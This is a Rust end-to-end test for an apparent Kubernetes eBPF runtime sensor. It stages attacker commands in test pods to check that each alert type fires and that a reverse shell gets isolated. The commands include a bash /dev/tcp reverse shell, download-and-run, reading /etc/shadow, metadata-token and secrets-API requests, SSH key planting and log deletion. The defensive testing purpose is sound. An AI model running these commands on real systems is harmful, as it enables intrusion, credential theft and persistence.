//! Runtime detections on a real node: Riposte's eBPF sensor (in this process, as root, as
//! the DaemonSet runs it) watches real processes in real pods. Every K8S.NODE_* alert type
//! is raised by an attacker's commands in a pod, with the pod, container, image and process
//! evidence; a benign day raises nothing; a reverse shell is isolated by a ResponsePolicy
//! and its connection really stops answering.
#![forbid(unsafe_code)]

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use kube::Api;
use kube::api::{ListParams, Patch, PatchParams};
use riposte::detection::node::NodeSettings;
use riposte::hunting::HuntingSink;
use riposte::metrics::{DetectionMetrics, RuntimeMetrics};
use riposte_crds::{Alert, ResponsePolicy};
use riposte_detect::runtime::RuntimeConfig;
use riposte_detect::runtime::rules::{ALERT_TYPES, PRIVILEGED_EXECUTION_IN_CONTAINER};
use riposte_e2e::InProcessOperator;
use riposte_e2e::node::{self, Cluster, NODE_NAME};
use riposte_hunt::go_hunt::{Entities, go_hunt};
use riposte_hunt::query::{Limits, run_local};
use riposte_hunt::store::{Store, StoreSettings};
use serde_json::json;

const WAIT: Duration = Duration::from_secs(90);

fn main() -> std::process::ExitCode {
    node::run_trials(vec![
        node::trial(
            "every_runtime_alert_type_is_raised_by_its_attack_in_a_pod",
            every_runtime_alert_type_is_raised_by_its_attack_in_a_pod,
        ),
        node::trial("a_benign_day_on_the_node_raises_nothing", a_benign_day_on_the_node_raises_nothing),
        node::trial(
            "a_reverse_shell_is_isolated_and_its_connection_stops_answering",
            a_reverse_shell_is_isolated_and_its_connection_stops_answering,
        ),
    ])
}

/// The node sensor, running until dropped.
struct NodeSensor(tokio::task::JoinHandle<()>);

impl Drop for NodeSensor {
    fn drop(&mut self) {
        self.0.abort();
    }
}

async fn sensor(cluster: &Cluster, config: RuntimeConfig) -> NodeSensor {
    sensor_keeping(cluster, config, riposte::hunting::HuntingSink::default()).await
}

/// The node sensor, keeping every event it evaluates in `hunting`.
async fn sensor_keeping(
    cluster: &Cluster,
    config: RuntimeConfig,
    hunting: riposte::hunting::HuntingSink,
) -> NodeSensor {
    riposte::local::install_crds(&cluster.client).await.expect("the CRDs install");
    let settings = NodeSettings {
        node: NODE_NAME.into(),
        namespace: "riposte-system".into(),
        config,
        ebpf: true,
        tetragon_export: None,
        forget_isolated_connections: true,
        hunting,
    };
    let mut registry = Default::default();
    let metrics = DetectionMetrics::register(&mut registry);
    let runtime_metrics = RuntimeMetrics::register(&mut registry);
    let client = cluster.client.clone();
    let task = tokio::spawn(async move {
        riposte::detection::node::run(client, settings, metrics, runtime_metrics, std::future::pending())
            .await
            .expect("the node sensor runs");
    });
    // Attached within a second; the first events are those of processes started after.
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert!(!task.is_finished(), "the node sensor stopped at once");
    NodeSensor(task)
}

async fn alerts(cluster: &Cluster, namespace: &str) -> Vec<Alert> {
    Api::<Alert>::namespaced(cluster.client.clone(), namespace)
        .list(&ListParams::default())
        .await
        .map(|l| l.items)
        .unwrap_or_default()
}

fn ensure_namespace(cluster: &Cluster, name: &str) {
    cluster
        .kubectl_stdin(&["apply", "-f", "-"], &format!("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: {name}\n"));
}

fn evidence<'a>(alert: &'a Alert, name: &str) -> Option<&'a str> {
    alert.spec.evidence.iter().find(|e| e.name == name).map(|e| e.value.as_str())
}

fn bash(cluster: &Cluster, namespace: &str, pod: &str, script: &str) {
    let out = cluster.exec(namespace, pod, &["bash", "-c", script]);
    // Some attacks fail on purpose (no route to the metadata service); what matters is that
    // they ran. A kubectl failure is reported, for the log of a missing alert.
    if !out.status.success() {
        eprintln!("  ({script}: {})", String::from_utf8_lossy(&out.stderr).trim());
    }
}

/// A server with files to download (`tool`, a miner's archive) on 8080 and a listener for
/// reverse shells on 4444 that sends a command every half second and logs whether the shell
/// answered.
async fn attacker_server(cluster: &Cluster, namespace: &str, image: &str) -> String {
    let listener = r#"
import socket, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 4444)); s.listen(8)
while True:
    c, _ = s.accept(); c.settimeout(1); n = 0
    while True:
        n += 1
        try:
            c.sendall(b"echo pong-%d\n" % n); data = c.recv(4096)
            if not data: print("closed", n, flush=True); break
            print("answered" if b"pong" in data else "silent", n, flush=True)
        except Exception as e:
            print("silent", n, type(e).__name__, flush=True)
        time.sleep(0.5)
"#;
    let script = format!(
        "mkdir -p /srv && printf '#!/bin/sh\\necho ran\\n' > /srv/tool && : > /srv/xmrig-6.21.0-linux-x64.tar.gz \
         && printf '%s' '{listener}' > /listener.py && (python3 -u /listener.py &) \
         && exec python3 -m http.server 8080 --directory /srv"
    );
    let mut manifest = cluster.pod_manifest("server", &[("app", "server")], image, &["bash", "-c", &script]);
    manifest["spec"]["containers"][0]["readinessProbe"] = json!({ "tcpSocket": { "port": 8080 }, "periodSeconds": 1 });
    cluster.run_pod_manifest(namespace, manifest).await;
    cluster.pod_ip(namespace, "server").await.to_string()
}

/// What an attacker runs for each alert type, in a Debian pod with bash, curl and python3.
/// Tools the image lacks are dropped in as copies of a harmless binary under the tool's
/// name, as attackers drop theirs.
fn attacks(server: &str) -> Vec<(&'static str, String)> {
    let s = server;
    vec![
        ("K8S.NODE_NamespaceCreation", "unshare -U true || true".into()),
        ("K8S.NODE_HistoryFileCleared", "echo ls > /root/.bash_history; rm -f /root/.bash_history".into()),
        ("K8S.NODE_SuspectConnection", "curl -s -m 1 --socks5 127.0.0.1:1080 http://example.com/ || true".into()),
        ("K8S.NODE_TimerServiceDisabled", "cp /bin/true /usr/local/bin/systemctl && systemctl stop apt-daily-upgrade.timer".into()),
        ("K8S.NODE_CommonBot", "cp /bin/true /tmp/mirai && /tmp/mirai".into()),
        ("K8S.NODE_PrivilegedContainerArtifacts", "cp /bin/true /usr/local/bin/docker && docker run --privileged -v /:/host alpine".into()),
        ("K8S.NODE_SuspectDownload", format!("curl -s -m 2 -o /dev/null http://{s}:8080/tool")),
        ("K8S.NODE_SuspectDownloadArtifacts", format!("curl -s -m 2 -o /tmp/.cache-tool http://{s}:8080/tool")),
        ("K8S.NODE_SuspectNohup", "mkdir -p /tmp/.h && cp /bin/true /tmp/.h/run && nohup /tmp/.h/run".into()),
        ("K8S.NODE_SuspectUserAddition", "useradd -M backdoor".into()),
        ("K8S.NODE_DigitalCurrencyMining", "cp /bin/true /tmp/xmrig && /tmp/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ --donate-level 1".into()),
        ("K8S.NODE_ImageBuildOnNode", "cp /bin/true /usr/local/bin/buildah && buildah bud -t evil .".into()),
        ("K8S.NODE_KnownLinuxDDoSToolkit", "cp /bin/true /tmp/cupsdd && /tmp/cupsdd".into()),
        ("K8S.NODE_EICAR", "cp /bin/echo /tmp/asc_alerttest_662jfi039n && /tmp/asc_alerttest_662jfi039n testing eicar pipe".into()),
        ("K8S.NODE_KnownLinuxAttackTool", "cp /bin/true /tmp/nmap && /tmp/nmap -sS 10.244.0.0/24".into()),
        ("K8S.NODE_LinuxBackdoorArtifact", "mkdir -p /tmp/.x && cp /bin/true /tmp/.x/sshd && /tmp/.x/sshd".into()),
        ("K8S.NODE_ExploitAttempt", "curl -s -m 1 -H 'X-Api-Version: ${jndi:ldap://10.0.0.9/a}' http://127.0.0.1:1/ || true".into()),
        ("K8S.NODE_KnownLinuxCredentialAccessTool", "cp /bin/true /tmp/mimipenguin && /tmp/mimipenguin".into()),
        ("K8S.NODE_CryptoCoinMinerDownload", format!("curl -s -m 2 -o /dev/null http://{s}:8080/xmrig-6.21.0-linux-x64.tar.gz")),
        ("K8S.NODE_SystemLogRemoval", "touch /var/log/wtmp && rm -f /var/log/wtmp".into()),
        ("K8S.NODE_SuspectPasswordChange", "echo 'root:$6$salt$hash' | chpasswd -e".into()),
        ("K8S.NODE_SuspectPortForwarding", "cp /bin/true /tmp/chisel && /tmp/chisel client 203.0.113.7:8000 R:socks".into()),
        ("K8S.NODE_ReverseShell", format!("timeout 3 bash -c 'bash -i >& /dev/tcp/{s}/4444 0>&1' || true")),
        ("K8S.NODE_SshKeyAccess", "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys".into()),
        ("K8S.NODE_SuspectProcessTermination", "cp /bin/sleep /tmp/falco && { /tmp/falco 30 & sleep 0.5; kill -TERM $!; }".into()),
        ("K8S.NODE_ContainerSSH", "cp /bin/true /usr/sbin/sshd && /usr/sbin/sshd -D".into()),
        ("K8S.NODE_TimestampTampering", "touch /tmp/tool && touch -r /bin/ls /tmp/tool".into()),
        ("K8S.NODE_KubernetesAPI", "curl -sk -m 2 https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT/api/v1/namespaces/kube-system/secrets || true".into()),
        ("K8S.NODE_KubernetesDashboard", "curl -s -m 1 http://kubernetes-dashboard.kubernetes-dashboard.svc/ || true".into()),
        ("K8S.NODE_SuspectPasswordFileAccess", "cat /etc/shadow > /dev/null".into()),
        ("K8S.NODE_Webshell", "mkdir -p /srv/www/cgi-bin && printf '#!/bin/sh\\necho Content-Type: text/plain\\necho\\nid\\n' > /srv/www/cgi-bin/x.sh \
            && chmod +x /srv/www/cgi-bin/x.sh && cp /usr/bin/python3 /usr/local/bin/httpd && cd /srv/www \
            && { /usr/local/bin/httpd -m http.server --cgi 8000 >/dev/null 2>&1 & sleep 1.5; curl -s -m 2 http://127.0.0.1:8000/cgi-bin/x.sh; kill %1; }".into()),
        ("K8S.NODE_ReconnaissanceArtifactsBurst", "whoami; id; uname -a; hostname; df -h".into()),
        ("K8S.NODE_DownloadAndRunCombo", format!("curl -s -m 2 -o /root/tool http://{s}:8080/tool && chmod +x /root/tool && /root/tool")),
        ("K8S.NODE_KubeConfigAccess", "mkdir -p /var/lib/kubelet && echo stolen > /var/lib/kubelet/kubeconfig && cat /var/lib/kubelet/kubeconfig".into()),
        ("K8S.NODE_ImdsCall", "curl -s -m 1 -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?resource=https://management.azure.com/' || true".into()),
        ("K8S.NODE_MitreCalderaTools", "cp /bin/true /tmp/sandcat.go && /tmp/sandcat.go -server http://10.0.0.9:8888 -group red".into()),
    ]
}

async fn every_runtime_alert_type_is_raised_by_its_attack_in_a_pod(cluster: &Cluster) {
    let ns = "runtime-attacks";
    cluster.namespace(ns).await;
    ensure_namespace(cluster, "riposte-system");
    let image = cluster.debian_image().await;
    let server = attacker_server(cluster, ns, &image).await;
    cluster.run_pod(ns, "attacker", &[("app", "web")], &image, &["sleep", "infinity"]).await;
    let mut privileged = cluster.pod_manifest("privileged", &[], &image, &["sleep", "infinity"]);
    privileged["spec"]["containers"][0]["securityContext"] = json!({ "privileged": true });
    cluster.run_pod_manifest(ns, privileged).await;

    let config = RuntimeConfig {
        bot_names: vec!["mirai".into()],
        malicious_download_sources: vec![server.clone()],
        ..RuntimeConfig::default()
    };
    let _sensor = sensor(cluster, config).await;
    let attacks = attacks(&server);
    for (_, script) in &attacks {
        bash(cluster, ns, "attacker", script);
    }
    bash(cluster, ns, "privileged", "id");

    let mut expected: BTreeSet<&str> = attacks.iter().map(|(t, _)| *t).collect();
    expected.extend([
        "K8S.NODE_CryptoCoinMinerArtifacts",
        "K8S.NODE_CryptoCoinMinerExecution",
        PRIVILEGED_EXECUTION_IN_CONTAINER,
    ]);
    assert_eq!(expected, ALERT_TYPES.into_iter().collect(), "the attacks cover the catalog");
    let deadline = Instant::now() + WAIT;
    let raised = loop {
        let raised = alerts(cluster, ns).await;
        let types: BTreeSet<&str> = raised.iter().map(|a| a.spec.alert_type.0.as_str()).collect();
        let missing: Vec<&&str> = expected.iter().filter(|t| !types.contains(**t)).collect();
        if missing.is_empty() {
            break raised;
        }
        if Instant::now() > deadline {
            panic!("runtime alerts not raised within {WAIT:?}: {missing:?}\nraised: {types:?}");
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    };
    for alert in &raised {
        let e = &alert.spec.entities;
        let what = format!("{} ({})", alert.spec.alert_type.0, alert.spec.title);
        let pod = if alert.spec.alert_type.0 == PRIVILEGED_EXECUTION_IN_CONTAINER { "privileged" } else { "attacker" };
        assert_eq!(e.pod.as_deref(), Some(pod), "{what}");
        assert_eq!(e.namespace.as_deref(), Some(ns), "{what}");
        assert_eq!(e.container.as_deref(), Some("main"), "{what}");
        assert_eq!(e.image.as_deref(), Some(image.as_str()), "{what}");
        assert_eq!(e.node.as_deref(), Some(NODE_NAME), "{what}");
        assert_eq!(alert.spec.source.as_deref(), Some("riposte-sensor"), "{what}");
        assert!(evidence(alert, "commandLine").is_some_and(|c| !c.is_empty()), "{what}: no command line");
        assert!(evidence(alert, "processTree").is_some(), "{what}: no process tree");
        assert!(evidence(alert, "containerId").is_some_and(|c| c.len() == 64), "{what}: no container id");
    }
    let shadow = raised.iter().find(|a| a.spec.alert_type.0 == "K8S.NODE_SuspectPasswordFileAccess").unwrap();
    assert_eq!(evidence(shadow, "file"), Some("/etc/shadow"));
    assert!(
        evidence(shadow, "commandLine").is_some_and(|c| c.ends_with("cat /etc/shadow")),
        "{:?}",
        shadow.spec.evidence
    );
    let remote = format!("{server}:4444");
    let shells: Vec<&Alert> = raised.iter().filter(|a| a.spec.alert_type.0 == "K8S.NODE_ReverseShell").collect();
    assert!(
        shells.iter().any(|shell| shell.spec.evidence.iter().any(|e| e.name == "remoteAddress" && e.value == remote)
            || evidence(shell, "indicator") == Some("/dev/tcp")),
        "{:?}",
        shells.iter().map(|s| &s.spec.evidence).collect::<Vec<_>>()
    );
    assert!(
        shells.iter().all(|shell| evidence(shell, "binary") != Some("/usr/local/bin/httpd")),
        "a web server handing its connection to a CGI script is not a reverse shell"
    );
    println!("  {} alerts of {} types raised", raised.len(), expected.len());
}

async fn a_benign_day_on_the_node_raises_nothing(cluster: &Cluster) {
    let ns = "runtime-benign";
    cluster.namespace(ns).await;
    ensure_namespace(cluster, "riposte-system");
    let image = cluster.debian_image().await;
    let started = k8s_openapi::jiff::Timestamp::now();
    let _sensor = sensor(cluster, RuntimeConfig::default()).await;
    // A web server with an init container and probes of both kinds.
    let mut web = cluster.pod_manifest(
        "web",
        &[("app", "web")],
        &image,
        &["python3", "-m", "http.server", "8080", "--directory", "/srv"],
    );
    web["spec"]["initContainers"] = json!([{
        "name": "init", "image": image, "imagePullPolicy": "Never",
        "command": ["sh", "-c", "mkdir -p /srv && echo hello > /srv/index.html"],
        "volumeMounts": [{ "name": "srv", "mountPath": "/srv" }],
    }]);
    web["spec"]["volumes"] = json!([{ "name": "srv", "emptyDir": {} }]);
    web["spec"]["containers"][0]["volumeMounts"] = json!([{ "name": "srv", "mountPath": "/srv" }]);
    web["spec"]["containers"][0]["readinessProbe"] =
        json!({ "exec": { "command": ["cat", "/srv/index.html"] }, "periodSeconds": 1 });
    web["spec"]["containers"][0]["livenessProbe"] =
        json!({ "httpGet": { "path": "/", "port": 8080 }, "periodSeconds": 1 });
    cluster.run_pod_manifest(ns, web).await;
    // A CronJob, and its job run now, as an operator does by hand.
    cluster.apply(&json!({
        "apiVersion": "batch/v1", "kind": "CronJob", "metadata": { "name": "report", "namespace": ns },
        "spec": { "schedule": "*/5 * * * *", "jobTemplate": { "spec": { "template": { "spec": {
            "restartPolicy": "Never",
            "containers": [{ "name": "report", "image": image, "imagePullPolicy": "Never",
                             "command": ["sh", "-c", "date; ls /; cat /etc/os-release > /dev/null"] }],
        }}}}},
    }));
    cluster.kubectl_ok(&["create", "job", "-n", ns, "report-now", "--from=cronjob/report"]);
    // An operator looking around, and the application serving.
    for command in [
        vec!["ls", "-la", "/srv"],
        vec!["cat", "/etc/hostname"],
        vec!["sh", "-c", "curl -s http://127.0.0.1:8080/ > /dev/null"],
        vec!["sh", "-c", "ps -ef > /dev/null 2>&1 || true; date"],
        vec!["env"],
    ] {
        let out = cluster.exec(ns, "web", &command);
        assert!(out.status.success(), "{command:?}: {}", String::from_utf8_lossy(&out.stderr));
    }
    eventually_job_done(cluster, ns, "report-now").await;
    // Time for anything in flight to be written.
    tokio::time::sleep(Duration::from_secs(8)).await;
    let raised = alerts(cluster, ns).await;
    let raised: Vec<String> = raised.iter().map(|a| format!("{}: {}", a.spec.alert_type.0, a.spec.title)).collect();
    assert!(raised.is_empty(), "a benign day raised alerts: {raised:#?}");
    // The node's own components (kubelet, containerd, kube-router, runc) meanwhile.
    let node_alerts: Vec<String> = alerts(cluster, "riposte-system")
        .await
        .iter()
        .filter(|a| a.spec.source.as_deref() == Some("riposte-sensor") && a.spec.detected_at.0 >= started)
        .map(|a| format!("{}: {}", a.spec.alert_type.0, a.spec.title))
        .collect();
    assert!(node_alerts.is_empty(), "the node's own components raised alerts: {node_alerts:#?}");
}

async fn eventually_job_done(cluster: &Cluster, ns: &str, job: &str) {
    let jobs: Api<k8s_openapi::api::batch::v1::Job> = Api::namespaced(cluster.client.clone(), ns);
    let deadline = Instant::now() + WAIT;
    while Instant::now() < deadline {
        if let Ok(job) = jobs.get(job).await
            && job.status.and_then(|s| s.succeeded).unwrap_or(0) > 0
        {
            return;
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    panic!("job {ns}/{job} did not succeed");
}

/// The listener's log: `answered N` while the shell answers.
fn answers(cluster: &Cluster, ns: &str) -> Vec<String> {
    let out = cluster.kubectl(&["logs", "-n", ns, "server"]);
    String::from_utf8_lossy(&out.stdout).lines().map(str::to_owned).collect()
}

async fn a_reverse_shell_is_isolated_and_its_connection_stops_answering(cluster: &Cluster) {
    let ns = "runtime-response";
    cluster.namespace(ns).await;
    ensure_namespace(cluster, "riposte-system");
    cluster.start_kube_router().await;
    let image = cluster.debian_image().await;
    let server = attacker_server(cluster, ns, &image).await;
    cluster.run_pod(ns, "victim", &[("app", "web")], &image, &["sleep", "infinity"]).await;
    let _operator = InProcessOperator::start(&cluster.client).await;
    let policy = json!({
        "apiVersion": "riposte.dev/v1alpha1", "kind": "ResponsePolicy", "metadata": { "name": "isolate-reverse-shells" },
        "spec": {
            "mode": "Automatic",
            "match": { "alertTypes": ["K8S.NODE_ReverseShell"], "namespaces": [ns] },
            "actions": [{ "action": "Isolate" }],
        },
    });
    Api::<ResponsePolicy>::all(cluster.client.clone())
        .patch("isolate-reverse-shells", &PatchParams::apply("riposte-tests").force(), &Patch::Apply(&policy))
        .await
        .expect("policy applied");
    let root = std::env::temp_dir().join(format!("riposte-node-hunting-{}", std::process::id()));
    let store = Store::open(StoreSettings::new(&root, "node")).expect("the hunting store opens");
    let _sensor = sensor_keeping(cluster, RuntimeConfig::default(), HuntingSink::new(store.clone(), "node")).await;

    // The shell, in the background of the victim: it lives until its connection ends.
    let script = format!("nohup bash -c 'bash -i >& /dev/tcp/{server}/4444 0>&1' >/dev/null 2>&1 &");
    bash(cluster, ns, "victim", &script);
    let started = Instant::now();
    let deadline = started + WAIT;
    while !answers(cluster, ns).iter().any(|l| l.starts_with("answered")) {
        assert!(Instant::now() < deadline, "the reverse shell never answered: {:?}", answers(cluster, ns));
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    // Alert → policy → isolation.
    let alert = loop {
        let raised = alerts(cluster, ns).await;
        if let Some(alert) = raised.into_iter().find(|a| a.spec.alert_type.0 == "K8S.NODE_ReverseShell") {
            break alert;
        }
        assert!(Instant::now() < deadline, "no reverse shell alert");
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    assert_eq!(alert.spec.entities.pod.as_deref(), Some("victim"));
    let isolated_at = loop {
        let pod = cluster.pods(ns).get("victim").await.expect("the victim pod");
        if pod.metadata.labels.as_ref().is_some_and(|l| l.contains_key("riposte.dev/isolated")) {
            break Instant::now();
        }
        assert!(Instant::now() < deadline, "the policy did not isolate the victim");
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    println!("  shell started → isolated in {:?}", isolated_at - started);
    // The shell's connection stops answering: the last lines are no longer "answered".
    let cut = loop {
        tokio::time::sleep(Duration::from_secs(1)).await;
        let lines = answers(cluster, ns);
        let recent: Vec<&String> = lines.iter().rev().take(4).collect();
        if recent.len() == 4 && recent.iter().all(|l| !l.starts_with("answered")) {
            break Instant::now();
        }
        assert!(
            Instant::now() < isolated_at + Duration::from_secs(20),
            "the isolated shell still answers: {:?}",
            &lines[lines.len().saturating_sub(8)..]
        );
    };
    println!("  isolated → shell silent within {:?}", cut - isolated_at);
    cluster.stop_kube_router().await;

    // Go hunt from the alert: the shell's commands in the victim, newest first.
    let entities = Entities {
        namespace: alert.spec.entities.namespace.clone(),
        pod: alert.spec.entities.pod.clone(),
        container: alert.spec.entities.container.clone(),
        ..Entities::default()
    };
    let hunt = go_hunt(&entities, alert.spec.detected_at.0.as_microsecond()).expect("the alert names its pod");
    let timeline = run_local(&store, &hunt, &Limits::default(), hunt.to).await.expect("the go hunt runs").rows;
    let activity: Vec<String> = timeline.iter().map(|row| row[7].as_str().unwrap_or_default().to_owned()).collect();
    let position = |needle: &str| activity.iter().position(|a| a.contains(needle));
    let (shell, connect) = (position("bash -c \"bash -i >& /dev/tcp/"), position(&format!("connect {server}")));
    assert!(shell.is_some() && connect.is_some(), "the go hunt shows the shell and its connection: {activity:#?}");
    assert!(connect < shell, "newest first: the connection after the shell started: {activity:#?}");
    let times: Vec<&str> = timeline.iter().map(|row| row[0].as_str().unwrap()).collect();
    assert!(times.windows(2).all(|w| w[0] >= w[1]), "newest first: {times:?}");
    drop(store);
    let _ = std::fs::remove_dir_all(&root);
}
